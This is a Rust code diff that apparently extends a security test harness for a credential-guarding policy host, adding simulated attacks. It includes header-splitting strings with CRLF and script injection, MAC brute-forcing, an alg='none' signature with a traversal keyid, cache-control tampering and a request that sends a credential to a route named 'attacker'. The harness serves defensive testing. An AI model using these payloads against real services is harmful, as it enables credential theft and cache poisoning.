@@ -2,9 +2,10 @@
 
 use core::sync::atomic::{AtomicBool, Ordering};
 
-use keyward_policy::{Decision, Exchange, Failure, Verdict};
+use keyward_policy::{Decision, Exchange, Failure, Level, Verdict};
 use serde::Deserialize;
 
+use crate::carry::{Place, carry};
 use crate::prize::WIDER;
 use crate::{Phase, Prize, Settings};
 
@@ -29,6 +30,8 @@ pub enum Attack {
     Reroute,
     /// A7, A8: what do failures say, and do they kill the host?
     Malformed,
+    /// A9: what does a trap say?
+    Trap,
     /// A10: what does the clock tell?
     Timing,
     /// A11: guess until one is right.
@@ -47,6 +50,8 @@ pub enum Attack {
     Truncated,
     /// A18: a credential of one route on another.
     OtherRoute,
+    /// A19: guesses in a log, to see which of them are masked.
+    LogGuesses,
     /// A20: guesses beside the secret, in one compressed text.
     Compressed,
     /// A22: names that look like the granted one.
@@ -59,8 +64,12 @@ pub enum Attack {
     Stored,
     /// C8: guesses, to see which of them are found.
     Oracle,
+    /// C9: have what one client gets kept for others.
+    Cached,
     /// C10: what do error pages say?
     ErrorPages,
+    /// C11: what a client showed the host.
+    ClientKey,
     /// C12: which wrong code is wrong in which way?
     Answers,
     /// C13: headers within a header.
@@ -83,6 +92,39 @@ fn note<T>(loot: &mut Vec<u8>, result: &Result<T, Failure>) {
     }
 }
 
+/// What went wrong, if something did.
+fn note_failure<T>(loot: &mut Vec<u8>, result: &Result<T, Failure>) {
+    if result.is_err() {
+        note(loot, result);
+    }
+}
+
+/// What it was handed, or else this.
+fn handed_or(loot: &[u8], otherwise: &str) -> String {
+    match loot {
+        [] => otherwise.to_owned(),
+        loot => String::from_utf8_lossy(loot).into_owned(),
+    }
+}
+
+/// All headers that it can see, and some by names of its own.
+fn read_headers(exchange: &Exchange<'_>, names: &[&str], loot: &mut Vec<u8>) {
+    for message in [exchange.request(), exchange.response()] {
+        for name in message.header_names() {
+            for value in message.header_values(&name) {
+                loot.extend_from_slice(&value);
+                loot.push(b'\n');
+            }
+        }
+        for name in names {
+            loot.extend(message.header(name).unwrap_or_default());
+        }
+    }
+}
+
+/// What was attached, by names that a policy could know.
+const ATTACHED: &[&str] = &["x-api-key", "X_Api_Key", "authorization"];
+
 /// Uses a name as each kind.
 fn use_all(exchange: &Exchange<'_>, name: &str, loot: &mut Vec<u8>) {
     note(loot, &exchange.credential(name).and_then(|it| it.attach()));
@@ -102,7 +144,8 @@ fn use_all(exchange: &Exchange<'_>, name: &str, loot: &mut Vec<u8>) {
     }
 }
 
-/// Sends a request of its own with the credential, and takes what comes back.
+/// Sends a request of its own with the credential and with what it was handed, and takes
+/// what comes back.
 fn echo(
     settings: &Settings,
     exchange: &Exchange<'_>,
@@ -111,9 +154,10 @@ fn echo(
 ) -> Result<(), Failure> {
     let route = settings.route.as_deref().unwrap_or("billing");
     let request = exchange.call(route, "POST", path)?;
-    settings.prize.attach_to(exchange, &request)?;
-    let answer = request.body("loot?")?.send();
-    note(loot, &answer);
+    note_failure(loot, &settings.prize.attach_to(exchange, &request));
+    let sent = handed_or(settings.pasted.as_bytes(), "loot?");
+    let answer = request.body(sent)?.send();
+    note_failure(loot, &answer);
     let Ok(answer) = answer else { return Ok(()) };
     for name in ["x-echo", "set-cookie", "location", "server-timing"] {
         if let Some(value) = answer.header(name) {
@@ -121,7 +165,7 @@ fn echo(
         }
     }
     let body = answer.body(64 * 1024);
-    note(loot, &body);
+    note_failure(loot, &body);
     loot.extend_from_slice(&body.unwrap_or_default());
     Ok(())
 }
@@ -189,17 +233,7 @@ pub(crate) fn carry_out(
         }
         Attack::ReadBack => {
             settings.prize.attach(exchange)?;
-            for message in [exchange.request(), exchange.response()] {
-                for name in message.header_names() {
-                    for value in message.header_values(&name) {
-                        loot.extend_from_slice(&value);
-                        loot.push(b'\n');
-                    }
-                }
-                for name in ["x-api-key", "X_Api_Key", "authorization"] {
-                    loot.extend(message.header(name).unwrap_or_default());
-                }
-            }
+            read_headers(exchange, ATTACHED, loot);
         }
         Attack::Reroute => {
             settings.prize.attach(exchange)?;
@@ -217,6 +251,11 @@ pub(crate) fn carry_out(
             for code in [&b""[..], b"\xff", long.as_bytes(), b"{\"a\":", b"AA=="] {
                 note(loot, &key.verify(long.as_bytes(), code));
             }
+        }
+        Attack::Trap => {
+            settings.prize.attach(exchange)?;
+            read_headers(exchange, ATTACHED, loot);
+            carry(Place::Panic, settings, exchange, loot)?;
         }
         Attack::Timing => {
             let before = exchange.now();
@@ -239,12 +278,19 @@ pub(crate) fn carry_out(
         }
         Attack::Guess => {
             let key = exchange.mac_verifier("mac")?;
+            let right = settings.made_code(exchange, b"m")?;
             for guess in 0..100_000_u32 {
-                let mut code = [0; 32];
+                let mut code = vec![0; 32];
                 code[..4].copy_from_slice(&guess.to_be_bytes());
-                let right = key.verify(b"m", &code);
-                note(loot, &right);
-                if right != Ok(false) {
+                if guess == 3 && !right.is_empty() {
+                    code.clone_from(&right);
+                }
+                let verified = key.verify(b"m", &code);
+                note(loot, &verified);
+                if verified == Ok(true) {
+                    loot.extend_from_slice(&code);
+                }
+                if verified != Ok(false) {
                     break;
                 }
             }
@@ -269,9 +315,11 @@ pub(crate) fn carry_out(
         Attack::OwnSignature => {
             let request = exchange.request();
             let input = "sig=();alg=\"none\";keyid=\"../../x\"";
+            let own = handed_or(loot, "AAAA");
             let _ = request.set_header("signature-input", input);
-            let _ = request.set_header("signature", "sig=:AAAA:");
-            exchange.signer("signing-key")?.attach()?;
+            let _ = request.set_header("signature", format!("sig=:{own}:"));
+            let signed = exchange.signer("signing-key").and_then(|it| it.attach());
+            note_failure(loot, &signed);
         }
         Attack::Wider => {
             let key = exchange.shared_access("storage")?;
@@ -280,17 +328,19 @@ pub(crate) fn carry_out(
             }
         }
         Attack::OwnMarks => {
+            let own = handed_or(loot, "AAAA");
             for (name, value) in [
-                ("sig", "AAAA"),
+                ("sig", own.as_str()),
                 ("se", "2099-01-01T00:00:00Z"),
                 ("X-Amz-Expires", "604800"),
-                ("X-Amz-Signature", "00"),
+                ("X-Amz-Signature", own.as_str()),
             ] {
                 exchange.set_query(name, value)?;
             }
-            let own = exchange.request().set_header("authorization", "Bearer own");
-            note(loot, &own);
-            settings.prize.attach(exchange)?;
+            let request = exchange.request();
+            let set = request.set_header("authorization", format!("Bearer {own}"));
+            note(loot, &set);
+            settings.attach_here(exchange)?;
         }
         Attack::Truncated => {
             let tag = exchange.mac_signer("mac")?.sign(b"m")?;
@@ -302,13 +352,21 @@ pub(crate) fn carry_out(
             }
             let whole = key.verify(b"m", &tag)?;
             loot.extend_from_slice(format!("the whole: {whole}\n").as_bytes());
+            loot.extend_from_slice(&settings.made_code(exchange, b"m")?);
         }
         Attack::OtherRoute => {
             let route = settings.route.as_deref().unwrap_or("attacker");
             let request = exchange.call(route, "POST", path)?;
             let attached = settings.prize.attach_to(exchange, &request);
             note(loot, &attached);
-            note(loot, &request.send());
+            note(loot, &request.body(&settings.pasted)?.send());
+        }
+        Attack::LogGuesses => {
+            // A mask of values would show in one of them.
+            let guess = &settings.pasted;
+            for line in [guess, &format!("x-api-key: {guess}"), &format!("{guess}0")] {
+                exchange.log(Level::Info, line);
+            }
         }
         Attack::Compressed => {
             settings.prize.attach(exchange)?;
@@ -334,7 +392,12 @@ pub(crate) fn carry_out(
                 use_all(exchange, name, loot);
             }
         }
-        Attack::Echo => echo(settings, exchange, path, loot)?,
+        Attack::Echo if phase == Phase::Backend => settings.prize.attach(exchange)?,
+        Attack::Echo => {
+            // What it was handed comes back, or does not.
+            loot.clear();
+            echo(settings, exchange, path, loot)?;
+        }
         Attack::Piecewise => {
             // More than anybody gets.
             for index in 0..100 {
@@ -347,14 +410,18 @@ pub(crate) fn carry_out(
         }
         Attack::Stored => {
             if exchange.path().ends_with("/write") {
-                settings.prize.attach(exchange)?;
+                note_failure(loot, &settings.prize.attach(exchange));
             }
         }
         Attack::Oracle => {
+            loot.clear();
             for guess in 0..6 {
                 let route = settings.route.as_deref().unwrap_or("billing");
                 let request = exchange.call(route, "POST", path)?;
-                let guess = format!("kw-{guess}");
+                let guess = match guess {
+                    5 => handed_or(settings.pasted.as_bytes(), "kw-5"),
+                    _ => format!("kw-{guess}"),
+                };
                 let answer = request.body(guess)?.send();
                 note(loot, &answer);
                 if let Ok(answer) = answer {
@@ -362,11 +429,29 @@ pub(crate) fn carry_out(
                 }
             }
         }
-        Attack::ErrorPages => {
-            if phase == Phase::Inbound {
+        Attack::Cached => {
+            if phase == Phase::Backend {
                 settings.prize.attach(exchange)?;
+            }
+            if phase == Phase::Outbound {
+                let answer = exchange.response();
+                answer.set_header("cache-control", "public, max-age=3600")?;
+                let _ = answer.remove_header("vary");
+            }
+        }
+        Attack::ErrorPages => {
+            if phase == settings.phase.unwrap_or(Phase::Inbound) {
+                settings.prize.attach(exchange)?;
+            }
+            if phase == Phase::Inbound {
                 return Ok(Verdict::Fail);
             }
+        }
+        Attack::ClientKey => {
+            let keys = exchange.client_keys("consumers");
+            note_failure(loot, &keys.and_then(|it| it.identify()));
+            let names = ["x-client-key", "X_Client_Key", "x_client_key", "forwarded"];
+            read_headers(exchange, &names, loot);
         }
         Attack::Answers => {
             let key = exchange.mac_verifier("mac")?;
@@ -382,15 +467,18 @@ pub(crate) fn carry_out(
             if key.verify(b"m ", &right) != Ok(false) {
                 loot.extend_from_slice(b"another answer\n");
             }
+            loot.extend_from_slice(&settings.made_code(exchange, b"m")?);
         }
         Attack::Splitting => {
             let answer = exchange.respond(200)?;
+            let handed = String::from_utf8_lossy(loot).into_owned();
             for value in ["x\r\nset-cookie: a=b", "x\n\n<script>", "\u{1b}[2J"] {
+                let value = format!("{value}{handed}");
                 note(loot, &answer.set_header("x-note", value));
             }
         }
         Attack::Trace => {
-            settings.prize.attach(exchange)?;
+            note_failure(loot, &settings.attach_here(exchange));
             for name in ["traceparent", "tracestate", "baggage"] {
                 let _ = exchange.request().set_header(name, "a-policy-wrote-this");
             }
